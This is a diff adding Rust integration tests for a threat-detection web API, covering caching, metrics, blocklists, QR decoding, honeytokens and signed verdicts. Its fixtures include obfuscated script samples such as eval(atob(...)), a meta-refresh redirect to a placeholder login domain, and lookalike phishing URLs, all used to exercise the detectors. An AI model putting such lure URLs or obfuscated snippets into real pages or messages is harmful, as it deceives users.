+        let app = app(&state(settings)).await;
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("code", code).to_request()).await).await;
+        assert_eq!((&body["is_threat"], &body["severity"]), (&serde_json::json!(false), &serde_json::json!("none")));
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(body["severity"], "low");
+    }
+
+    #[actix_web::test]
+    async fn stats_stream_pushes_updates_at_its_interval() {
+        let app = app(&state(Settings { stats_stream_interval_ms: 10, ..settings() })).await;
+        let response = call_service(&app, TestRequest::get().uri("/api/stats/stream").to_request()).await;
+        assert_eq!(response.status(), 200);
+        assert_eq!(response.headers().get("Content-Type").unwrap(), "text/event-stream");
+        let mut body = std::pin::pin!(response.into_body());
+        let mut next_update = async || -> serde_json::Value {
+            let Some(Ok(chunk)) = std::future::poll_fn(|cx| body.as_mut().poll_next(cx)).await else {
+                panic!("stats stream ended");
+            };
+            let event = std::str::from_utf8(&chunk).unwrap();
+            let data = event.strip_prefix("event: stats\ndata: ").unwrap().strip_suffix("\n\n").unwrap();
+            serde_json::from_str(data).unwrap()
+        };
+
+        let first = next_update().await;
+        assert_eq!(first["total_detections"], 0);
+        call_service(&app, detect("url", "https://example.org/").to_request()).await;
+        let second = next_update().await;
+        assert_eq!(second["total_detections"], 1);
+    }
+
+    #[actix_web::test]
+    async fn declared_types_contradicting_the_content_add_confidence() {
+        let app = app(&state(settings())).await;
+        let markup = "<p>Hello</p><script>document.title = 'x'</script>";
+        let verdict = |context: &str| explain("code", markup, Some(context)).to_request();
+
+        let mismatched: serde_json::Value = read_body_json(call_service(&app, verdict("Content-Type: text/plain")).await).await;
+        assert_eq!(outcome(&mismatched, "mime_mismatch"), "hit");
+        assert!(reasons(&mismatched).contains(&"Declared type text/plain does not match content (script)"));
+        let declared: serde_json::Value = read_body_json(call_service(&app, verdict("Content-Type: text/html")).await).await;
+        assert_eq!(outcome(&declared, "mime_mismatch"), "pass");
+        let raised = mismatched["confidence"].as_f64().unwrap() - declared["confidence"].as_f64().unwrap();
+        assert!((raised - 0.3).abs() < 1e-6, "confidence raised by {}", raised);
+    }
+
+    #[actix_web::test]
+    async fn read_endpoints_answer_304_until_their_content_changes() {
+        let app = app(&state(settings())).await;
+        let get = |uri: &str, etag: Option<&str>| {
+            let req = TestRequest::get().uri(uri);
+            match etag {
+                Some(etag) => req.insert_header(("If-None-Match", etag.to_string())).to_request(),
+                None => req.to_request(),
+            }
+        };
+        let etag = |response: &ServiceResponse<_>| response.headers().get("ETag").unwrap().to_str().unwrap().to_string();
+
+        for uri in ["/api/stats", "/api/admin/thresholds/url"] {
+            let first = call_service(&app, get(uri, None)).await;
+            assert_eq!(first.status(), 200, "{}", uri);
+            assert!(first.headers().contains_key("Cache-Control"), "{}", uri);
+            let tag = etag(&first);
+            let unchanged = call_service(&app, get(uri, Some(&tag))).await;
+            assert_eq!(unchanged.status(), 304, "{}", uri);
+            assert_eq!(etag(&unchanged), tag);
+
+            if uri == "/api/stats" {
+                call_service(&app, detect("url", "https://example.org/").to_request()).await;
+            } else {
+                let body = serde_json::json!({ "threat": 0.6, "critical": 0.85, "high": 0.65, "medium": 0.45 });
+                let put = TestRequest::put().uri(uri).set_json(body);
+                assert_eq!(call_service(&app, put.to_request()).await.status(), 200);
+            }
+            let changed = call_service(&app, get(uri, Some(&tag))).await;
+            assert_eq!(changed.status(), 200, "{}", uri);
+            assert_ne!(etag(&changed), tag, "{}", uri);
+        }
+    }
+
+    #[test]
+    fn overrides_force_their_verdict_before_any_detector_runs() {
+        let safe = "https://example.org/";
+        let forced = config::VerdictOverride { is_threat: true, severity: "critical".to_string(), confidence: None };
+        let state = state(Settings { overrides: HashMap::from([(hash_string(safe), forced)]), ..settings() });
+        let thresholds = state.thresholds.read().unwrap();
+        let pipelines = state.pipelines.read().unwrap().clone();
+        let ctx = state.detection_context(None, None, &thresholds, None, &pipelines);
+
+        let overridden = run_detection(&request("url", safe), &ctx);
+        assert!(overridden.is_threat);
+        assert_eq!((overridden.severity.as_str(), overridden.confidence), ("critical", 1.0));
+        assert_eq!(overridden.threat_type, "phishing");
+        assert_eq!(overridden.reasons, ["Overridden by policy"]);
+
+        let detected = run_detection(&request("url", "https://example.org/about"), &ctx);
+        assert!(!detected.is_threat);
+        assert!(!detected.reasons.iter().any(|r| r == "Overridden by policy"));
+    }
+
+    #[actix_web::test]
+    async fn idempotent_retries_replay_the_first_response() {
+        let state = state(settings());
+        let app = app(&state).await;
+        let with_key = |content: &str| detect("url", content).insert_header(("Idempotency-Key", "retry-0001")).to_request();
+        let url = "http://paypa1-verify.example.tk/login?confirm=1";
+
+        let first: serde_json::Value = read_body_json(call_service(&app, with_key(url)).await).await;
+        assert_eq!(first["idempotent_replay"], false);
+        let retry: serde_json::Value = read_body_json(call_service(&app, with_key(url)).await).await;
+        assert_eq!(retry["idempotent_replay"], true);
+        assert_eq!(retry["cached"], first["cached"]);
+        assert_eq!(retry["latency_ms"], first["latency_ms"]);
+        assert_eq!(retry["reasons"], first["reasons"]);
+        assert_eq!(state.statistics().total_detections, 1);
+
+        let conflict = call_service(&app, with_key("https://example.org/")).await;
+        assert_eq!(conflict.status(), 409);
+        let conflict: serde_json::Value = read_body_json(conflict).await;
+        assert_ne!(conflict["stored_body_hash"], conflict["request_body_hash"]);
+        assert_eq!(state.statistics().total_detections, 1);
+    }
+
+    #[actix_web::test]
+    async fn meta_refresh_to_another_site_is_a_redirect_hit() {
+        let app = app(&state(settings())).await;
+        let page = r#"<html><head><meta http-equiv="refresh" content="0; url=https://login.evil-example.net/verify"></head></html>"#;
+        let body: serde_json::Value = read_body_json(call_service(&app, explain("code", page, None).to_request()).await).await;
+        assert_eq!(outcome(&body, "redirects"), "hit");
+        assert!(reasons(&body).contains(&"Automatic redirect to login.evil-example.net (meta refresh)"));
+
+        let still: serde_json::Value = read_body_json(call_service(&app, explain("code", "<html><head><title>Hi</title></head></html>", None).to_request()).await).await;
+        assert_eq!(outcome(&still, "redirects"), "pass");
+        assert!(body["confidence"].as_f64() > still["confidence"].as_f64());
+    }
+
+    #[actix_web::test]
+    async fn concurrent_batches_count_every_item_under_one_stats_lock_each() {
+        let state = state(Settings { fine_grained_metrics: true, ..settings() });
+        let app = app(&state).await;
+        let stats_locks = || state.metrics.lock_summary().unwrap()["stats"].acquisitions;
+        let before = stats_locks();
+        let batch = |n: usize| {
+            let threats: Vec<serde_json::Value> = (0..5)
+                .map(|i| match i % 2 {
+                    0 => serde_json::json!({ "threat_type": "url", "content": format!("http://paypa1-verify.example.tk/{}/{}", n, i) }),
+                    _ => serde_json::json!({ "threat_type": "code", "content": format!("let total = {} + {};", n, i) }),
+                })
+                .collect();
+            TestRequest::post().uri("/api/detect/batch").set_json(serde_json::json!({ "threats": threats })).to_request()
+        };
+
+        let responses = futures::future::join_all((0..8).map(|n| call_service(&app, batch(n)))).await;
+        let mut threats = 0;
+        for response in responses {
+            assert_eq!(response.status(), 200);
+            let body: serde_json::Value = read_body_json(response).await;
+            threats += body["results"].as_array().unwrap().iter().filter(|r| r["is_threat"] == true).count() as u64;
+        }
+        assert_eq!(stats_locks() - before, 8);
+        let stats = state.statistics();
+        assert_eq!((stats.total_detections, stats.threats_detected), (40, threats));
+        assert_eq!((stats.by_type["url"].counts.detections, stats.by_type["code"].counts.detections), (24, 16));
+
+        let uncounted = self::state(Settings { batch_stats: false, ..settings() });
+        assert_eq!(call_service(&self::app(&uncounted).await, batch(0)).await.status(), 200);
+        assert_eq!(uncounted.statistics().total_detections, 0);
+    }
+
+    #[actix_web::test]
+    async fn stats_break_single_and_batch_verdicts_down_by_threat_type() {
+        let app = app(&state(settings())).await;
+        let malicious = "<script>eval(atob(x))</script>";
+        for (threat_type, content) in [("url", "https://example.org/"), ("url", "https://example.org/"), ("code", malicious)] {
+            call_service(&app, detect(threat_type, content).to_request()).await;
+        }
+        let threats = serde_json::json!([
+            { "threat_type": "code", "content": "<script>eval(atob('YWxlcnQoMSk='))</script>" },
+            { "threat_type": "url", "content": "https://example.net/" },
+            { "threat_type": "url", "content": "https://example.com/" },
+        ]);
+        call_service(&app, TestRequest::post().uri("/api/detect/batch").set_json(serde_json::json!({ "threats": threats })).to_request()).await;
+
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+        let by_type = &stats["by_type"];
+        assert_eq!((&by_type["url"]["detections"], &by_type["url"]["threats"], &by_type["url"]["cache_hits"]), (&serde_json::json!(3), &serde_json::json!(0), &serde_json::json!(1)));
+        assert_eq!((&by_type["code"]["detections"], &by_type["code"]["threats"], &by_type["code"]["cache_hits"]), (&serde_json::json!(2), &serde_json::json!(2), &serde_json::json!(0)));
+        for threat_type in ["url", "code"] {
+            assert!(by_type[threat_type]["avg_latency_ms"].is_number(), "{}", threat_type);
+        }
+        assert!(by_type.get("action").is_none());
+
+        // The global totals are still there, and add up to the types
+        assert_eq!((&stats["total_detections"], &stats["threats_detected"], &stats["cache_hits"]), (&serde_json::json!(5), &serde_json::json!(2), &serde_json::json!(1)));
+    }
+
+    #[actix_web::test]
+    async fn cache_hits_serve_the_full_verdict_from_plain_and_compressed_entries() {
+        let compressed = state(Settings { cache_compression: true, cache_compression_threshold: 1, ..settings() });
+        let (plain, compressed) = (app(&state(settings())).await, app(&compressed).await);
+        let malicious = "<script>eval(atob('YWxlcnQoMSk='))</script>";
+        for app in [&plain, &compressed] {
+            let first: serde_json::Value = read_body_json(call_service(app, detect("code", malicious).to_request()).await).await;
+            assert_eq!(first["cached"], false);
+            assert!(!reasons(&first).is_empty());
+            // Per-request fields set on one hit do not stick to the entry
+            for _ in 0..2 {
+                let hit: serde_json::Value = read_body_json(call_service(app, detect("code", malicious).to_request()).await).await;
+                assert_eq!(hit["cached"], true);
+                assert_eq!(reasons(&hit), reasons(&first));
+                for field in ["is_threat", "verdict", "threat_type", "confidence", "severity"] {
+                    assert_eq!(hit[field], first[field], "{}", field);
+                }
+            }
+        }
+    }
+
+    #[actix_web::test]
+    async fn metrics_are_exposed_in_prometheus_text_format_by_type_and_cache() {
+        let app = app(&state(settings())).await;
+        for (threat_type, content) in [("code", "<script>eval(atob(x))</script>"), ("code", "<script>eval(atob(x))</script>"), ("url", "https://example.org/")] {
+            assert_eq!(call_service(&app, detect(threat_type, content).to_request()).await.status(), 200);
+        }
+        let response = call_service(&app, TestRequest::get().uri("/metrics").to_request()).await;
+        assert_eq!(response.headers().get("content-type").unwrap(), "text/plain; version=0.0.4");
+        let body = String::from_utf8(actix_web::body::to_bytes(response.into_body()).await.ok().unwrap().to_vec()).unwrap();
+        let lines: Vec<&str> = body.lines().collect();
+
+        for (name, kind) in [("detections_total", "counter"), ("threats_detected_total", "counter"), ("detection_latency_seconds", "histogram"), ("cache_size", "gauge")] {
+            assert!(lines.contains(&format!("# TYPE {} {}", name, kind).as_str()), "{}", name);
+            assert!(lines.iter().any(|l| l.starts_with(&format!("# HELP {} ", name))), "{}", name);
+        }
+        for expected in [
+            r#"detections_total{cache="miss",threat_type="code"} 1"#,
+            r#"detections_total{cache="hit",threat_type="code"} 1"#,
+            r#"detections_total{cache="miss",threat_type="url"} 1"#,
+            r#"detections_total{cache="hit",threat_type="url"} 0"#,
+            r#"threats_detected_total{cache="hit",threat_type="code"} 1"#,
+            r#"threats_detected_total{cache="miss",threat_type="url"} 0"#,
+            r#"detection_latency_seconds_count{cache="hit",threat_type="code"} 1"#,
+            "cache_size 2",
+        ] {
+            assert!(lines.contains(&expected), "{}\n{}", expected, body);
+        }
+        // Buckets start below a millisecond and end at +Inf
+        let buckets: Vec<&str> = lines
+            .iter()
+            .filter(|l| l.starts_with(r#"detection_latency_seconds_bucket{cache="miss",threat_type="url","#))
+            .map(|l| l.split("le=\"").nth(1).unwrap().split('"').next().unwrap())
+            .collect();
+        assert_eq!(buckets.first(), Some(&"0.00005"));
+        assert_eq!(buckets.last(), Some(&"+Inf"));
+        assert!(buckets.iter().filter(|le| le.parse::<f64>().is_ok_and(|le| le < 1e-3)).count() >= 4, "{:?}", buckets);
+    }
+
+    #[actix_web::test]
+    async fn api_metrics_counters_line_up_with_the_detection_stats() {
+        let state = state(settings());
+        let app = app(&state).await;
+        let malicious = "<script>eval(atob(x))</script>";
+        for (threat_type, content) in [("code", malicious), ("code", malicious), ("url", "https://example.org/"), ("url", "https://example.org/")] {
+            call_service(&app, detect(threat_type, content).to_request()).await;
+        }
+        let threats = serde_json::json!([{ "threat_type": "code", "content": malicious }, { "threat_type": "url", "content": "https://example.net/" }]);
+        let batch = call_service(&app, TestRequest::post().uri("/api/detect/batch").set_json(serde_json::json!({ "threats": threats })).to_request()).await;
+        assert_eq!(batch.status(), 200, "{:?}", actix_web::body::to_bytes(batch.into_body()).await.ok());
+
+        let response = call_service(&app, TestRequest::get().uri("/api/metrics").to_request()).await;
+        let body = String::from_utf8(actix_web::body::to_bytes(response.into_body()).await.ok().unwrap().to_vec()).unwrap();
+        // Every sample by series name, with its labels
+        let mut samples: Vec<(&str, &str, f64)> = Vec::new();
+        for line in body.lines().filter(|l| !l.starts_with('#')) {
+            let (series, value) = line.rsplit_once(' ').unwrap();
+            let (name, labels) = series.split_once('{').unwrap_or((series, ""));
+            samples.push((name, labels, value.parse().unwrap()));
+        }
+        let total = |name: &str, labels: &[&str]| -> u64 {
+            samples.iter().filter(|(n, l, _)| *n == name && labels.iter().all(|label| l.contains(label))).map(|(_, _, v)| *v as u64).sum()
+        };
+        for (name, kind) in [
+            ("detections_total", "counter"),
+            ("threats_detected_total", "counter"),
+            ("threat_detections_total", "counter"),
+            ("cache_hits_total", "counter"),
+            ("detection_latency_seconds", "histogram"),
+            ("detection_latency_ms", "histogram"),
+            ("cache_size", "gauge"),
+        ] {
+            assert!(body.contains(&format!("# HELP {} ", name)) && body.contains(&format!("# TYPE {} {}\n", name, kind)), "{}", name);
+        }
+
+        let stats = state.statistics();
+        // Cache hits are counted apart from the detections that ran
+        assert_eq!((stats.total_detections, stats.cache_hits), (4, 2));
+        let miss = r#"cache="miss""#;
+        assert_eq!(total("detections_total", &[miss]), stats.total_detections);
+        assert_eq!(total("detections_total", &[r#"cache="hit""#]), stats.cache_hits);
+        assert_eq!(total("threats_detected_total", &[miss]), stats.threats_detected);
+        assert_eq!(total("detection_latency_seconds_count", &[]), stats.total_detections + stats.cache_hits);
+        assert_eq!(total("threat_detections_total", &[]), stats.total_detections);
+        assert_eq!(total("threat_detections_total", &[r#"threat_type="code""#]), 2);
+        assert_eq!(total("cache_hits_total", &[]), stats.cache_hits);
+        // The histogram holds the same latencies as the stats buffer
+        let latencies = state.lock_stats().latencies.clone();
+        assert_eq!(total("detection_latency_ms_count", &[]), latencies.len() as u64);
+        assert_eq!(total("detection_latency_ms_sum", &[]), latencies.iter().sum::<u64>());
+        let within = |le: u64| latencies.iter().filter(|&&ms| ms <= le).count() as u64;
+        assert_eq!(total("detection_latency_ms_bucket", &[r#"le="5""#]), within(5));
+        assert_eq!(total("detection_latency_ms_bucket", &[r#"le="+Inf""#]), latencies.len() as u64);
+        assert_eq!(total("cache_size", &[]), stats.cache_size as u64);
+        for (threat_type, by_type) in &stats.by_type {
+            let labels = [miss, &format!("threat_type=\"{}\"", threat_type)];
+            assert_eq!(total("detections_total", &labels), by_type.counts.detections, "{}", threat_type);
+        }
+    }
+
+    #[actix_web::test]
+    async fn fallback_chain_catches_a_threat_the_primary_missed() {
+        let markup = "<script>eval(atob('YWxlcnQoMSk='))</script><b onclick=go()>";
+        let primary_only: serde_json::Value = read_body_json(call_service(&app(&state(settings())).await, detect("url", markup).to_request()).await).await;
+        assert_eq!(primary_only["is_threat"], false);
+        assert!(primary_only["confidence"].as_f64().unwrap() < 0.5);
+
+        let mut settings = settings();
+        settings.fallback_chains.insert("url".to_string(), vec!["code".to_string()]);
+        let app = app(&state(settings)).await;
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("url", markup).to_request()).await).await;
+        assert_eq!((&body["is_threat"], &body["threat_type"]), (&serde_json::json!(true), &serde_json::json!("malware")));
+        assert!(reasons(&body).contains(&"Flagged by fallback detector: code"));
+        assert_eq!(body["polyglot"], false);
+    }
+
+    #[actix_web::test]
+    async fn mid_confidence_verdicts_need_review() {
+        let app = app(&state(settings())).await;
+        let verdict = |url: &str| {
+            let body = serde_json::json!({ "threat_type": "url", "content": url, "context": "Please verify your account" });
+            TestRequest::post().uri("/api/detect").set_json(body).to_request()
+        };
+        // A brand lookalike (0.4) with a phishing keyword (0.2) scores 0.6, inside the url review band [0.5, 0.7)
+        let mid: serde_json::Value = read_body_json(call_service(&app, verdict("https://paypa-account.example.net/")).await).await;
+        assert_eq!((&mid["verdict"], &mid["is_threat"]), (&serde_json::json!("needs_review"), &serde_json::json!(false)));
+        let safe: serde_json::Value = read_body_json(call_service(&app, verdict("https://example.org/")).await).await;
+        assert_eq!(safe["verdict"], "safe");
+    }
+
+    /// PNG of a QR code holding `QR_URL`
+    const QR_PNG: &[u8] = include_bytes!("../testdata/qr-url.png");
+    const QR_URL: &str = "https://login.blocked-example.net/verify";
+
+    #[actix_web::test]
+    async fn every_detect_handler_follows_the_blocklist_failure_policy() {
+        for policy in [components::FailurePolicy::Open, components::FailurePolicy::Closed] {
+            let mut settings = settings();
+            std::fs::create_dir_all(&settings.data_dir).unwrap();
+            let blocklist = settings.data_dir.join("url-blocklist.txt");
+            std::fs::write(&blocklist, "blocked-example.net\n").unwrap();
+            settings.url_blocklist_path = Some(blocklist);
+            settings.component_policies.insert("url_blocklist".to_string(), policy);
+            let state = state(settings);
+            let app = app(&state).await;
+            let single = || detect("url", QR_URL).to_request();
+            let batch = || {
+                let body = serde_json::json!({ "threats": [{ "threat_type": "url", "content": QR_URL }] });
+                TestRequest::post().uri("/api/detect/batch").set_json(body).to_request()
+            };
+            let qr = || TestRequest::post().uri("/api/detect/qr").set_payload(QR_PNG).to_request();
+            let blocklisted = |verdict: &serde_json::Value| verdict["reasons"].as_array().unwrap().contains(&serde_json::json!("Domain is blocklisted"));
+
+            let up: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://login.blocked-example.net/").to_request()).await).await;
+            assert!(blocklisted(&up));
+            // The feed dies; the loaded list must not be used while it is marked down
+            state.components.mark_down("url_blocklist", "feed unreachable".to_string());
+            let responses = [
+                ("detect", call_service(&app, single()).await),
+                ("batch", call_service(&app, batch()).await),
+                ("qr", call_service(&app, qr()).await),
+            ];
+            for (handler, response) in responses {
+                if policy == components::FailurePolicy::Closed {
+                    assert_eq!(response.status(), 503, "{}", handler);
+                    let body: serde_json::Value = read_body_json(response).await;
+                    assert_eq!(body["components"], serde_json::json!(["url_blocklist"]), "{}", handler);
+                    continue;
+                }
+                assert_eq!(response.status(), 200, "{}", handler);
+                let body: serde_json::Value = read_body_json(response).await;
+                let verdict = match handler {
+                    "detect" => body,
+                    "batch" => body["results"][0].clone(),
+                    _ => body["results"][0]["detection"].clone(),
+                };
+                assert_eq!(verdict["degraded"], true, "{}", handler);
+                assert_eq!(verdict["degraded_components"], serde_json::json!(["url_blocklist"]), "{}", handler);
+                assert!(!blocklisted(&verdict), "{} used a degraded blocklist", handler);
+            }
+        }
+    }
+
+    #[actix_web::test]
+    async fn qr_images_are_decoded_and_each_url_is_checked() {
+        let mut settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let blocklist = settings.data_dir.join("url-blocklist.txt");
+        std::fs::write(&blocklist, "blocked-example.net\n").unwrap();
+        settings.url_blocklist_path = Some(blocklist);
+        let app = app(&state(settings)).await;
+        let qr = |image: Vec<u8>| TestRequest::post().uri("/api/detect/qr").set_payload(image).to_request();
+
+        let body: serde_json::Value = read_body_json(call_service(&app, qr(QR_PNG.to_vec())).await).await;
+        assert_eq!(body["image"]["format"], "png");
+        assert_eq!(body["codes_found"], 1);
+        assert_eq!(body["results"][0]["payload"], QR_URL);
+        let detection = &body["results"][0]["detection"];
+        assert_eq!(detection["is_threat"], true);
+        assert!(detection["reasons"].as_array().unwrap().contains(&serde_json::json!("Domain is blocklisted")));
+
+        let mut blank = std::io::Cursor::new(Vec::new());
+        image::GrayImage::from_pixel(64, 64, image::Luma([255])).write_to(&mut blank, image::ImageFormat::Png).unwrap();
+        let empty: serde_json::Value = read_body_json(call_service(&app, qr(blank.into_inner())).await).await;
+        assert_eq!((&empty["codes_found"], &empty["message"]), (&serde_json::json!(0), &serde_json::json!("No QR code found")));
+        assert_eq!(call_service(&app, qr(b"not an image".to_vec())).await.status(), 415);
+    }
+
+    #[actix_web::test]
+    async fn repeated_threats_alert_once_per_cooldown_without_changing_the_score() {
+        let mut settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let blocklist = settings.data_dir.join("url-blocklist.txt");
+        std::fs::write(&blocklist, "blocked-example.net\n").unwrap();
+        settings.url_blocklist_path = Some(blocklist);
+        let audit_log = settings.data_dir.join("audit.jsonl");
+        settings.audit_log_path = Some(audit_log.clone());
+        settings.alert_cooldown_secs = 60;
+        let clock = Arc::new(clock::ManualClock::new());
+        let state = manual_state(settings, &clock);
+        let app = app(&state).await;
+        let alerts = || {
+            state.audit.flush();
+            let records = std::fs::read_to_string(&audit_log).unwrap();
+            records.lines().filter(|line| line.contains("\"detection.alert\"")).count()
+        };
+
+        let first: serde_json::Value = read_body_json(call_service(&app, detect("url", QR_URL).to_request()).await).await;
+        assert_eq!(first["is_threat"], true);
+        for _ in 0..5 {
+            let again: serde_json::Value = read_body_json(call_service(&app, detect("url", QR_URL).to_request()).await).await;
+            assert_eq!((&again["is_threat"], &again["confidence"]), (&first["is_threat"], &first["confidence"]));
+        }
+        assert_eq!(alerts(), 1);
+
+        clock.advance(Duration::from_secs(61));
+        call_service(&app, detect("url", QR_URL).to_request()).await;
+        assert_eq!(alerts(), 2);
+    }
+
+    /// Flags content containing a marker; stands in for a third-party backend
+    struct MarkerDetector;
+
+    impl detector::Detector for MarkerDetector {
+        fn response_type(&self) -> &'static str {
+            "marker"
+        }
+
+        fn detect(&self, req: &ThreatDetectionRequest, _ctx: &DetectionContext) -> ThreatDetectionResponse {
+            let found = req.content.contains("MARKER");
+            let reasons = if found { vec!["Marker present".to_string()] } else { Vec::new() };
+            ThreatDetectionResponse::new(self.response_type(), found, if found { 0.9 } else { 0.1 }, "low".to_string(), reasons)
+        }
+    }
+
+    #[actix_web::test]
+    async fn registered_detectors_serve_their_type_through_detect() {
+        let mut state = Arc::try_unwrap(state(settings()).into_inner()).ok().unwrap();
+        state.detectors.register("action", MarkerDetector);
+        let state = web::Data::new(state);
+        let app = app(&state).await;
+
+        let flagged: serde_json::Value = read_body_json(call_service(&app, detect("action", "step MARKER step").to_request()).await).await;
+        assert_eq!((&flagged["threat_type"], &flagged["is_threat"]), (&serde_json::json!("marker"), &serde_json::json!(true)));
+        assert_eq!(flagged["reasons"], serde_json::json!(["Marker present"]));
+        let clean: serde_json::Value = read_body_json(call_service(&app, detect("action", "step step").to_request()).await).await;
+        assert_eq!((&clean["threat_type"], &clean["is_threat"]), (&serde_json::json!("marker"), &serde_json::json!(false)));
+        // Other types keep their built-in detectors
+        let url: serde_json::Value = read_body_json(call_service(&app, detect("url", "https://example.org/").to_request()).await).await;
+        assert_eq!(url["threat_type"], "phishing");
+    }
+
+    #[actix_web::test]
+    async fn reloaded_pipelines_run_as_configured_and_unknown_stages_are_refused() {
+        let settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let config = settings.data_dir.join("pipelines.toml");
+        // The only test reading the config file
+        std::env::set_var("API_CONFIG", &config);
+        let state = state(settings);
+        let app = app(&state).await;
+        let reload = || TestRequest::post().uri("/api/admin/pipelines/reload").to_request();
+        let url = "http://10.0.0.1/login";
+
+        let builtin: serde_json::Value = read_body_json(call_service(&app, explain("url", url, None).to_request()).await).await;
+        assert_eq!((outcome(&builtin, "ip_host"), outcome(&builtin, "blocklist")), ("hit", "pass"));
+        assert_eq!(builtin["verdict"], "safe");
+
+        std::fs::write(&config, "[[pipelines.url]]\nstage = \"ip_host\"\nweight = 0.9\n").unwrap();
+        assert_eq!(call_service(&app, reload()).await.status(), 200);
+        let reloaded: serde_json::Value = read_body_json(call_service(&app, explain("url", url, None).to_request()).await).await;
+        let stages: Vec<&serde_json::Value> = reloaded["trace"].as_array().unwrap().iter().map(|t| &t["stage"]).collect();
+        assert_eq!(stages, [&serde_json::json!("ip_host")]);
+        assert_eq!(reloaded["verdict"], "threat");
+
+        let unknown = "[[pipelines.url]]\nstage = \"ip_host\"\n[[pipelines.url]]\nstage = \"sandbox\"\n";
+        std::fs::write(&config, unknown).unwrap();
+        let refused = call_service(&app, reload()).await;
+        assert_eq!(refused.status(), 422);
+        let body: serde_json::Value = read_body_json(refused).await;
+        assert_eq!(body["error"], "pipelines.url[1]: unknown stage \"sandbox\"");
+        // The running pipeline is untouched
+        let kept: serde_json::Value = read_body_json(call_service(&app, explain("url", url, None).to_request()).await).await;
+        assert_eq!(kept["verdict"], "threat");
+    }
+
+    #[actix_web::test]
+    async fn oversized_content_is_truncated_on_a_character_boundary() {
+        let mut settings = settings();
+        // After the 9-byte prefix the limit falls inside a two-byte character
+        settings.max_detect_bytes = 4096;
+        let app = app(&state(settings)).await;
+        let content = format!("eval(x); {}", "é".repeat(500_000));
+
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("code", &content).to_request()).await).await;
+        let truncated = format!("Content truncated from {} to 4095 bytes before analysis", content.len());
+        assert!(reasons(&body).contains(&truncated.as_str()), "{:?}", body["reasons"]);
+        // Only the prefix was analysed, so the verdict is as fast as a small one
+        assert!(body["latency_ms"].as_u64().unwrap() < 1000);
+
+        let short: serde_json::Value = read_body_json(call_service(&app, detect("code", "eval(x);").to_request()).await).await;
+        assert!(!reasons(&short).iter().any(|r| r.starts_with("Content truncated")));
+    }
+
+    #[actix_web::test]
+    async fn honeytokens_trigger_critical_verdicts_until_revoked() {
+        let settings = settings();
+        let service = app(&state(settings.clone())).await;
+        let admin = |req: TestRequest| req.to_request();
+
+        let created = call_service(&service, admin(TestRequest::post().uri("/api/admin/honeytokens").set_json(serde_json::json!({ "kind": "url", "label": "wiki" })))).await;
+        assert_eq!(created.status(), 201);
+        let token: serde_json::Value = read_body_json(created).await;
+        let (id, value) = (token["id"].as_str().unwrap(), token["value"].as_str().unwrap());
+        let content = format!("see {} for the export", value);
+
+        let triggered: serde_json::Value = read_body_json(call_service(&service, detect("code", &content).to_request()).await).await;
+        assert_eq!((&triggered["is_threat"], &triggered["severity"]), (&serde_json::json!(true), &serde_json::json!("critical")));
+        assert_eq!(reasons(&triggered), [format!("Honeytoken triggered (token id {})", id)]);
+        assert_eq!(triggered["honeytoken_id"], id);
+
+        let revoke = || admin(TestRequest::delete().uri(&format!("/api/admin/honeytokens/{}", id)));
+        assert_eq!(call_service(&service, revoke()).await.status(), 204);
+        assert_eq!(call_service(&service, revoke()).await.status(), 404);
+        let listed: serde_json::Value = read_body_json(call_service(&service, admin(TestRequest::get().uri("/api/admin/honeytokens"))).await).await;
+        assert!(listed[0]["revoked_at"].is_string());
+
+        let revoked: serde_json::Value = read_body_json(call_service(&service, detect("code", &content).to_request()).await).await;
+        assert!(revoked["honeytoken_id"].is_null());
+        assert!(!reasons(&revoked).iter().any(|r| r.starts_with("Honeytoken triggered")));
+        // The revocation was persisted
+        let restarted = app(&state(settings)).await;
+        let after: serde_json::Value = read_body_json(call_service(&restarted, detect("code", &content).to_request()).await).await;
+        assert!(after["honeytoken_id"].is_null());
+    }
+
+    #[actix_web::test]
+    async fn cached_and_computed_latencies_are_averaged_apart() {
+        let state = state(settings());
+        let verdict = |latency_ms: u64| {
+            let mut result = ThreatDetectionResponse::new("phishing", false, 0.1, "none".to_string(), Vec::new());
+            result.latency_ms = latency_ms;
+            result
+        };
+        {
+            let mut stats = state.lock_stats();
+            for latency_ms in [30, 50] {
+                stats.record(&state.metrics, "url", &verdict(latency_ms), Duration::from_millis(latency_ms));
+            }
+            for _ in 0..6 {
+                stats.record_cache_hit(&state.metrics, "url", &verdict(0), Duration::ZERO);
+            }
+        }
+
+        let stats = state.statistics();
+        assert_eq!((stats.avg_latency_uncached_ms, stats.avg_latency_cached_ms), (40.0, 0.0));
+        // The overall average still counts every verdict served
+        assert_eq!(stats.avg_latency_ms, 10.0);
+    }
+
+    #[actix_web::test]
+    async fn signed_verdicts_verify_and_tampering_is_rejected() {
+        let mut settings = settings();
+        std::fs::create_dir_all(&settings.data_dir).unwrap();
+        let (key_path, other_path) = (settings.data_dir.join("signing.pk8"), settings.data_dir.join("other.pk8"));
+        std::fs::write(&key_path, signing::generate_pkcs8().unwrap()).unwrap();
+        std::fs::write(&other_path, signing::generate_pkcs8().unwrap()).unwrap();
+        settings.signing_key_path = Some(key_path);
+        settings.signing_key_id = "2026-10".to_string();
+        let app = app(&state(settings)).await;
+
+        let key: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/signing-key").to_request()).await).await;
+        assert_eq!((&key["key_id"], &key["algorithm"]), (&serde_json::json!("2026-10"), &serde_json::json!("ed25519")));
+        let public_key = key["public_key"].as_str().unwrap();
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("code", "eval(atob(payload))").to_request()).await).await;
+        let signature: signing::VerdictSignature = serde_json::from_value(body["signature"].clone()).unwrap();
+        assert_eq!(signature.key_id, "2026-10");
+        let verdict = |body: &serde_json::Value| serde_json::from_value::<signing::Verdict>(body.clone()).unwrap();
+        assert_eq!(signing::verify(&verdict(&body), &signature, public_key), Ok(()));
+
+        let mut lowered = body.clone();
+        lowered["confidence"] = serde_json::json!(0.05);
+        assert!(signing::verify(&verdict(&lowered), &signature, public_key).is_err());
